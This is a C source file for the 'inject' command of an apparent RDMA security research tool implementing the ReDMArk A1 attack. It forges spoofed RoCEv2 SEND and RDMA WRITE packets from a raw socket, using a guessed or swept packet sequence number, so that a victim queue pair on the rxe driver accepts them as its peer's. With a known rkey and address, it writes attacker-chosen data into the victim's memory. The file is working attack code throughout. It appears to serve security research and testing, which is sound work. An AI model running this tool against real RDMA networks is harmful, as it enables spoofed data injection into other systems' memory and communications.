/* SPDX-License-Identifier: MIT */
/*
 * inject (ReDMArk A1): forge RoCEv2 SEND or RDMA WRITE packets that a victim
 * QP accepts as its peer's. rxe checks only that the IP source is the peer's
 * address, that the QPN exists and that the PSN is exactly the expected one;
 * the ICRC is a checksum anyone can compute.
 */
#include <getopt.h>
#include <string.h>

#include "common/attack.h"

enum { OPT_OP = OPT_FIRST_PRIVATE, OPT_RKEY, OPT_VA, OPT_DATA, OPT_DATA_HEX, OPT_SOLICITED, OPT_NO_ACKREQ };

static void help(FILE *f)
{
	fprintf(f, "Usage: %s inject --dst IP --src IP --qpn N (--psn N | --psn-sweep S:C) [options]\n"
		"Forge RC SEND Only or RDMA WRITE Only packets from a raw socket.\n\n"
		FORGE_HELP
		"  --op send|write       operation (default send)\n"
		"  --rkey N              RDMA WRITE: the victim's rkey (0..0xFFFFFFFF)\n"
		"  --va N                RDMA WRITE: the victim's virtual address\n"
		"  --data TEXT           payload (default \"rdmasec-attack was here\")\n"
		"  --data-hex HEX        payload as hex digits\n"
		"  --solicited           set the BTH solicited-event bit\n"
		"  --no-ack-req          clear the BTH AckReq bit\n"
		"  -h, --help\n\n"
		"Needs CAP_NET_RAW. On the fabric: --iface fab3 from host 3, --src the peer's IP.\n"
		"Exit status: 0 sent, 1 failed, 2 bad usage.\n", PROG);
}

static const struct option inject_long_opts[] = {
	FORGE_LONG_OPTIONS,
	{ "op", required_argument, NULL, OPT_OP },
	{ "rkey", required_argument, NULL, OPT_RKEY },
	{ "va", required_argument, NULL, OPT_VA },
	{ "data", required_argument, NULL, OPT_DATA },
	{ "data-hex", required_argument, NULL, OPT_DATA_HEX },
	{ "solicited", no_argument, NULL, OPT_SOLICITED },
	{ "no-ack-req", no_argument, NULL, OPT_NO_ACKREQ },
	{ "help", no_argument, NULL, 'h' },
	{ 0 },
};

struct inject_opts {
	struct forge_opts forge;
	bool write, have_rkey, have_va, solicited, ack_req;
	uint64_t va;
	uint32_t rkey;
	uint8_t data[ROCE_MAX_PAYLOAD];
	size_t data_len;
};

/* One of inject's own options into o; false if it was bad. */
static bool parse_opt(int opt, const char *arg, void *ctx)
{
	struct inject_opts *o = ctx;

	switch (opt) {
	case OPT_OP:
		if (!strcmp(arg, "write")) {
			o->write = true;
		} else if (strcmp(arg, "send") != 0) {
			fprintf(stderr, "%s inject: --op must be send or write, not `%s'\n", PROG, arg);
			return false;
		}
		return true;
	case OPT_RKEY: o->have_rkey = true; return parse_u32(arg, UINT32_MAX, &o->rkey, "--rkey");
	case OPT_VA: o->have_va = true; return parse_u64(arg, UINT64_MAX, &o->va, "--va");
	case OPT_DATA:
		o->data_len = strlen(arg);
		if (o->data_len == 0 || o->data_len > sizeof(o->data)) {
			fprintf(stderr, "%s inject: --data must be 1..%zu bytes\n", PROG, sizeof(o->data));
			return false;
		}
		memcpy(o->data, arg, o->data_len);
		return true;
	case OPT_DATA_HEX: return parse_hex(arg, o->data, sizeof(o->data), &o->data_len, "--data-hex");
	case OPT_SOLICITED: o->solicited = true; return true;
	case OPT_NO_ACKREQ: o->ack_req = false; return true;
	default: return false;
	}
}

/* Returns -1 to go on, or the exit status (0 after --help, 2 bad usage). */
static int parse_args(int argc, char *argv[], struct inject_opts *o)
{
	bool bad = false;
	int rc = forge_getopt(argc, argv, inject_long_opts, "inject", &o->forge, parse_opt, o, help, &bad);

	if (rc >= 0)
		return rc;
	if (!bad && o->write && (!o->have_rkey || !o->have_va)) {
		fprintf(stderr, "%s inject: --op write needs --rkey and --va\n", PROG);
		bad = true;
	}
	if (bad || !forge_check(&o->forge, "inject"))
		return 2;
	return -1;
}

static void report(const struct inject_opts *o, uint64_t sent, int rc)
{
	const struct forge_opts *f = &o->forge;
	char s1[16], s2[16];

	if (!f->json) {
		printf("inject: %s %llu forged %s packet(s) %s -> %s qpn 0x%06x psn 0x%06x%s, %zu payload bytes\n",
		       f->no_send ? "built" : "sent", (unsigned long long)sent,
		       o->write ? "RDMA WRITE Only" : "SEND Only", ipv4_str(f->src_ip, s1), ipv4_str(f->dst_ip, s2),
		       f->qpn, f->psn, f->count > 1 ? " (first)" : "", o->data_len);
		return;
	}
	struct json j;
	json_begin(&j, "inject");
	json_str(&j, "op", o->write ? "write" : "send");
	json_str(&j, "dst", ipv4_str(f->dst_ip, s1));
	json_str(&j, "src", ipv4_str(f->src_ip, s2));
	json_hex(&j, "qpn", f->qpn);
	json_hex(&j, "psn_first", f->psn);
	json_u64(&j, "count", f->count);
	json_u64(&j, "payload_len", o->data_len);
	if (o->write) {
		json_hex(&j, "rkey", o->rkey);
		json_hex(&j, "va", o->va);
	}
	json_u64(&j, "sent", sent);
	json_boolean(&j, "ok", rc == 0);
	json_end(&j);
}

int inject_main(int argc, char *argv[])
{
	static const char default_data[] = "rdmasec-attack was here";
	static struct inject_opts o;
	struct roce_pkt p = { 0 };
	uint64_t sent = 0;
	int rc;

	o = (struct inject_opts){ .forge = { .count = 1 }, .ack_req = true, .data_len = sizeof(default_data) - 1 };
	memcpy(o.data, default_data, o.data_len);
	if ((rc = parse_args(argc, argv, &o)) >= 0)
		return rc;
	p.opcode = o.write ? ROCE_RC_WRITE_ONLY : ROCE_RC_SEND_ONLY;
	p.ack_req = o.ack_req;
	p.solicited = o.solicited;
	p.reth_va = o.va;
	p.reth_rkey = o.rkey;
	p.reth_len = (uint32_t)o.data_len;
	p.payload = o.data;
	p.payload_len = o.data_len;
	rc = forge_run(&o.forge, &p, &sent);
	report(&o, sent, rc);
	return rc == 0 ? 0 : 1;
}
